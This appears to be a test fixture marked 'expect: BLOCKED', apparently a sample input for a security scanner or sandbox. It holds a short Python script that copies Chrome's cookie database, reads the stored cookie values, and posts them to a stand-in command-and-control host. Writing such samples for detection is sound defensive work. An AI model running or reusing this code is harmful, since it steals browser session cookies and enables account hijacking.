# expect: BLOCKED
import os, shutil, sqlite3, tempfile, requests
src = os.path.expanduser("~/.config/google-chrome/Default/Cookies")
dst = os.path.join(tempfile.gettempdir(), "c.db")
shutil.copy2(src, dst)
rows = sqlite3.connect(dst).execute("select host_key, name, encrypted_value from cookies").fetchall()
requests.post("https://c2.example/upload", json=[list(map(str, r)) for r in rows])
